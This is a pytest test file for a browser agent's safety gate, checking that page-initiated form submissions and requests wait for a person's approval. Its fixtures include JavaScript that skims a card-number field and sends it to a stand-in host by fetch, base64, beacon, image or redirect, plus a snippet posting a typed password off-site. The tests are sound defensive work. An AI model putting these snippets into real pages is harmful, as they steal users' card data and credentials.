"""What acts lead to, on real pages: requests wait until the gate has judged them."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from typing import Any

import pytest
import pytest_asyncio

from agent_e.browser import dialogs
from agent_e.errors import ActionDenied
from agent_e.safety import read_pattern
from agent_e.safety.typed_values import MIN_BEGUN
from tests.browsers import Chromium

from .shops import Shop, opened_shop

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def shop(chromium: Chromium, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Shop]:
    async with opened_shop(chromium, tmp_path_factory.mktemp("shop")) as opened:
        yield opened


CARD = "4242 4242 4242 4242"
PAY = "<form method=post action=/do><select aria-label=Way><option>Post<option>Train</select>"
UNSEEN = {
    "a form made by a script": (
        "button",
        """<button type=button onclick="const f = document.createElement('form'); f.method = 'post';
        f.action = '/do'; document.body.append(f); f.submit()">Go on</button>""",
    ),
    "another form than the button's": (
        "button",
        """<form method=post action=/do id=f></form>
        <button type=button onclick="document.forms[0].submit()">Go on</button>""",
    ),
    "a form to a new window": (
        "button",
        """<form method=post action=/do target=_blank></form>
        <button type=button onclick="document.forms[0].submit()">Go on</button>""",
    ),
    "a form in a frame": (
        "button",
        """<iframe name=inner></iframe><form method=post action=/do target=inner></form>
        <button type=button onclick="document.forms[0].submit()">Go on</button>""",
    ),
    "a picture that deletes": (
        "button",
        """<button id=b7 style="width: 20px; height: 20px"></button><script>
        document.querySelector('#b7').addEventListener('click', () =>
          fetch('/do', {method: 'DELETE'}))</script>""",
    ),
    "a form sent on to another site": (
        "button",
        "<form method=post action=OTHER/do><button>Next</button></form>",
    ),
}


@pytest.mark.parametrize(
    "page",
    [
        name if name == "a form made by a script" else pytest.param(name, marks=pytest.mark.slow)
        for name in UNSEEN
    ],
)
async def test_what_the_page_did_not_tell_of_waits_for_a_person(shop: Shop, page: str) -> None:
    role, html = UNSEEN[page]
    await shop.show(html)
    with pytest.raises(ActionDenied, match="the person refused it"):
        await shop.do("click", mmid=await shop.only(role))
    assert (len(shop.person.asked), shop.done) == (1, [])
    await shop.show(html)
    shop.person.allows = True
    await shop.do("click", mmid=await shop.only(role))
    assert (len(shop.person.asked), shop.done) == (1, ["/do"])


async def test_a_choice_that_sends_its_form_by_a_listener_is_judged_by_that_form(
    shop: Shop,
) -> None:
    send = "<script>document.forms[0].onchange = (e) => e.currentTarget.submit()</script>"
    await shop.show(f"{PAY}<button>Pay now</button></form>{send}")
    with pytest.raises(ActionDenied):
        await shop.do("select_option", mmid=await shop.only("combobox"), option="Train")
    assert shop.done == []
    assert "it may spend money" in shop.person.asked[0].risk.reasons
    await shop.show(f"{PAY}<button>Save</button></form>{send}", effect="write")
    await shop.do("select_option", mmid=await shop.only("combobox"), option="Train")
    assert (shop.person.asked, shop.done) == ([], ["/do"])


async def test_what_was_allowed_is_not_asked_about_twice(shop: Shop) -> None:
    for html, asked in (
        ("<form method=post action=/do><button>Pay now</button></form>", 1),
        ("<form method=post action=/do><button>Save</button></form>", 0),
        ("""<button onclick="fetch('/do', {method: 'POST'})">Delete account</button>""", 1),
        ("""<button onclick="fetch('/do', {method: 'POST'})">Show more</button>""", 0),
    ):
        await shop.show(html, effect="write")
        shop.person.allows = True
        await shop.do("click", mmid=await shop.only())
        assert (len(shop.person.asked), shop.done) == (asked, ["/do"]), html


@pytest.mark.slow
async def test_a_refused_form_is_not_sent_by_another_way(shop: Shop) -> None:
    await shop.show(
        "<form method=post action=/do><button>Pay now</button></form>"
        "<a href='javascript:document.forms[0].submit()'>Go on</a>"
    )
    for role in ("button", "link"):
        with pytest.raises(ActionDenied):
            await shop.do("click", mmid=await shop.only(role))
    assert (len(shop.person.asked), shop.done) == (1, [])


WAYS = {
    "in an address": "fetch('OTHER/log?d=' + encodeURIComponent(V))",
    "in base64": "fetch('OTHER/log?d=' + btoa(JSON.stringify({v: V})))",
    "in JSON": "fetch('OTHER/log', {method: 'POST', body: JSON.stringify({v: V})})",
    "by a picture": "new Image().src = 'OTHER/log?d=' + V",
    "by a beacon": "navigator.sendBeacon('OTHER/log', V)",
    "by a page": "location = 'OTHER/log?d=' + V",
    "in a fragment": "location = 'OTHER/log#' + V",
}


@pytest.mark.parametrize(
    "way",
    [
        name
        if name in ("in base64", "by a beacon", "in a fragment")
        else pytest.param(name, marks=pytest.mark.slow)
        for name in WAYS
    ],
)
async def test_a_card_number_does_not_go_to_another_site(shop: Shop, way: str) -> None:
    script = f"if (this.value.length === {len(CARD)}) {WAYS[way].replace('V', 'this.value')}"
    await shop.show(f'<input aria-label=Card autocomplete=cc-number oninput="{_quoted(script)}">')
    # It may be sent after the end of the act: it is asked about all the same.
    with suppress(ActionDenied):
        await shop.do("enter_text", mmid=await shop.only("textbox"), text=CARD)
    await _come(lambda: shop.here.events("approval.answered"))
    assert shop.arrived == []
    (asked,) = shop.person.asked
    assert "carries what was typed to another site" in asked.risk.reasons[0]


async def test_a_referrer_is_cut_to_its_origin(shop: Shop) -> None:
    script = "history.replaceState(0, '', '?d=' + this.value)"
    send = "fetch('OTHER/log', {referrerPolicy: 'unsafe-url'})"
    await shop.show(
        f'<input aria-label=Card autocomplete=cc-number oninput="{_quoted(script)}">'
        f'<button onclick="{_quoted(send)}">Show more</button>',
        effect="read",
    )
    await shop.do("enter_text", mmid=await shop.only("textbox"), text=CARD)
    await shop.do("click", mmid=await shop.only())
    await _come(lambda: shop.arrived)
    assert [(each.path, each.referrer) for each in shop.arrived] == [("/log", f"{shop.here.base}/")]


async def test_nor_does_it_key_by_key_or_later(shop: Shop) -> None:
    script = "(V) => fetch('OTHER/log?d=' + V.replaceAll(' ', ''))"
    await shop.show(
        f"""<input aria-label=Card autocomplete=cc-number oninput="({script})(this.value)">"""
    )
    with pytest.raises(ActionDenied):
        await shop.do("enter_text", mmid=await shop.only("textbox"), text=CARD)
    assert all(len(each.query) < len("d=") + MIN_BEGUN for each in shop.arrived)
    shop.arrived.clear()
    await shop.here.script(
        f"void ({script.replace('OTHER', shop.other)})(document.querySelector('input').value)"
    )
    await _come(lambda: len(shop.here.events("approval.answered")) > 1)
    assert shop.arrived == []


def _quoted(script: str) -> str:
    return script.replace('"', "&quot;")


async def test_other_words_go_elsewhere_with_a_note_and_only_strict_asks(shop: Shop) -> None:
    html = """<input aria-label=Find oninput="fetch('OTHER/find?q=' + this.value)">"""
    await shop.show(html)
    await shop.do("enter_text", mmid=await shop.only("textbox"), text="lamp")
    assert [each.query for each in shop.arrived] == ["q=lamp"]
    (noted,) = shop.here.events("request.judged")
    assert (noted["decision"], noted["carries"], noted["tier"]) == ("notify", "text", "R2")
    await shop.show(html, effect="read", profile="strict")
    with pytest.raises(ActionDenied):
        await shop.do("enter_text", mmid=await shop.only("textbox"), text="lamp")
    assert shop.arrived == []


async def test_what_only_strict_asks_about_is_journaled(shop: Shop) -> None:
    html = """<button onclick="fetch('/do', {method: 'POST'})">Show more</button>"""
    await shop.show(html, effect="read")
    await shop.do("click", mmid=await shop.only())
    (ended,) = shop.here.events("action.ended")
    assert [(each["method"], each["status"]) for each in ended["requests"]] == [("POST", 200)]
    await shop.show(html, effect="read", profile="strict")
    with pytest.raises(ActionDenied):
        await shop.do("click", mmid=await shop.only())
    assert shop.done == []


@pytest.mark.slow
async def test_a_form_that_the_page_sends_by_itself_waits_too(shop: Shop) -> None:
    await shop.show("<form method=post action=/do></form>")
    await shop.here.script("setTimeout(() => document.forms[0].submit())")
    await _come(lambda: shop.here.events("approval.answered"))
    with pytest.raises(ActionDenied, match="the page sends it by itself"):
        await shop.do("scroll", direction="down")
    assert shop.done == []


async def test_a_person_may_take_longer_than_a_dialog_is_kept(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dialogs, "PATIENCE_S", 0.3)
    shut = asyncio.Event()

    async def think() -> None:
        # Twice as long as the dialog would wait for an answer by anybody else.
        asyncio.get_running_loop().call_later(0.6, shut.set)
        await shut.wait()

    await shop.show("""<button onclick="document.title = confirm('Delete all?')">Show</button>""")
    await shop.do("click", mmid=await shop.only())
    shop.person.allows = True
    shop.person.meanwhile = think
    await shop.do("handle_dialog", accept=True)
    assert await shop.here.script("document.title") == "true"


@pytest.mark.slow
async def test_a_request_that_stops_the_page_waits_for_as_long_as_the_person_takes(
    shop: Shop,
) -> None:
    async def think() -> None:
        # The page can neither be looked at nor clicked meanwhile.
        if shop.person.asked[-1].sentence.startswith("let the page"):
            with pytest.raises(TimeoutError):
                await asyncio.wait_for(shop.here.script("1"), 1)

    await shop.show(
        '<input type=password><button onclick="const x = new XMLHttpRequest();'
        "x.open('POST', 'OTHER/do', false); x.send(document.querySelector('input').value)\">"
        "Go on</button>"
    )
    await shop.do("enter_text", mmid=await shop.only("textbox"), text="correct horse")
    shop.person.allows = True
    shop.person.meanwhile = think
    await shop.do("click", mmid=await shop.only())
    assert [each.body for each in shop.arrived] == ["correct horse"]


async def _come(holds: Callable[[], Any]) -> None:
    async with asyncio.timeout(30):
        while not holds():  # noqa: ASYNC110
            await asyncio.sleep(0.02)


async def test_leave_for_what_an_act_sends_counts_as_leave_for_the_act(shop: Shop) -> None:
    role, html = UNSEEN["a form made by a script"]
    trusting: dict[str, Any] = {"trusted": (read_pattern("127.0.0.1"),)}
    # On a trusted site nothing is asked, of a model neither.
    for rules, grant, tier in (({}, "approved", "R3"), (trusting, "notify", "R2")):
        await shop.show(html, **rules)
        shop.person.allows = True
        await shop.do("click", mmid=await shop.only(role))
        act, request = shop.effects
        assert (act.kind, act.tier, act.grant) == ("act", tier, grant)
        assert (request.method, request.grant) == ("POST", grant)
        assert request.url.endswith("/do")


async def test_a_form_whose_action_is_a_script_is_sent_by_its_own_page(shop: Shop) -> None:
    html = """<form method=post action="javascript:void(0)" onsubmit="fetch('/do', {method: 'POST',
        body: 'in'})"><input type=password><button>Sign in</button></form>"""
    await shop.show(html)
    with pytest.raises(ActionDenied):
        await shop.do("click", mmid=await shop.only())
    await shop.show(html, trusted=(read_pattern("127.0.0.1"),))
    await shop.do("click", mmid=await shop.only())
    assert [each.body for each in shop.arrived] == ["in"]


async def test_what_was_not_let_is_no_effect(shop: Shop) -> None:
    role, html = UNSEEN["a form made by a script"]
    await shop.show(html)
    with pytest.raises(ActionDenied):
        await shop.do("click", mmid=await shop.only(role))
    assert shop.effects == ()


async def test_hosts_that_are_only_read_are_not_changed(shop: Shop) -> None:
    save = "<form method=post action=/do><button>Save</button></form>"
    here, other = (read_pattern(host) for host in ("127.0.0.1", "localhost"))
    trusting: dict[str, Any] = {"trusted": (here, other)}
    await shop.show(save, effect="write", act_on=(here,))
    await shop.do("click", mmid=await shop.only())
    assert shop.done == ["/do"]
    # Nobody's leave for acts there goes beyond.
    await shop.show(save, effect="write", act_on=(other,), **trusting)
    with pytest.raises(ActionDenied, match="may only be read in this run"):
        await shop.do("click", mmid=await shop.only())
    await shop.show(
        "<button onclick=\"fetch('OTHER/do', {method: 'POST'})\">Show more</button>",
        effect="write",
        act_on=(here,),
        **trusting,
    )
    with pytest.raises(ActionDenied, match="may only be read in this run"):
        await shop.do("click", mmid=await shop.only())
    assert shop.done == []
